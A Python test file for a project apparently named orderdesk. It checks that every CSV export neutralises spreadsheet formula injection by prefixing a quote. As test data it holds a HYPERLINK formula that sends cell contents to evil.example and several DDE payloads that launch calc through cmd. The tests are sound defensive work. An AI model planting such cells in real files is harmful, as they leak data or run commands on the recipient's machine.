"""Issue 21 finding 4: formula injection in CSV exports. Every CSV the project writes goes
through ``core.exports.csv_writer``, which neutralises a cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from orderdesk.core.exports import csv_lines, csv_writer, neutralise_cell
from orderdesk.customers.models import Customer
from orderdesk.leads.choices import LeadSource
from orderdesk.leads.models import Lead

SRC = Path(__file__).resolve().parents[2]  # src/orderdesk
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "@SUM(1+9)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98111 22233", "+91 98111 22233"),  # a phone runs nothing
        ("+91•••••43210", "+91•••••43210"),
        ("-120", "-120"),
        ("+91 1)+cmd|' /C calc'!A0", "'+91 1)+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        (CALC, "'" + CALC),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Asha Rao", "Asha Rao"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (12, 12),
        (None, None),
    ],
)
def test_s2_csv_cells_that_start_a_formula_get_a_leading_quote(cell, written):
    assert neutralise_cell(cell) == written


def test_s2_csv_writer_and_csv_lines_neutralise_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", "ok", -3]])
    assert out.getvalue() == "'=1+1,ok,-3\r\n"
    assert list(csv_lines(["@h"], [[HYPERLINK]])) == [
        "'@h\r\n",
        "\"'" + HYPERLINK.replace('"', '""') + '"\r\n',
    ]


def test_s2_no_csv_writer_outside_core_exports():
    """One CSV writer for the whole project: a new ``csv.writer`` elsewhere fails here."""
    pattern = re.compile(
        r"csv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
    )
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "core"
        if "tests" not in path.parts and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.fixture
def hostile_world(cast, catalog):
    from orderdesk.leads.seeding import ensure_default_settings

    ensure_default_settings()
    customer = Customer.objects.create(name=CALC, phone="+919812345678")
    Lead.objects.create(customer=customer, source=LeadSource.APP_QUOTE, variant=catalog["v256"])
    return catalog


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def test_s2_lead_export_writes_a_hostile_customer_name_as_text(hostile_world, client_for):
    rows = _rows(client_for("supervisor").get("/console/exports/leads.csv"))
    assert rows[1][2] == "'" + CALC


def test_s2_order_export_writes_a_hostile_customer_name_as_text(hostile_world, client_for, cast):
    from orderdesk.orders.actions import create_order
    from orderdesk.testing.factories import agent_order_request

    create_order(
        agent_order_request(hostile_world, customer_name=HYPERLINK),
        actor=cast["sales"],
        channel="agent",
    )
    rows = _rows(client_for("supervisor").get("/console/exports/orders.csv"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["customer"] == "'" + HYPERLINK
    live = [v for v in record.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert live == [record["phone_masked"]] == ["+91•••••43210"]
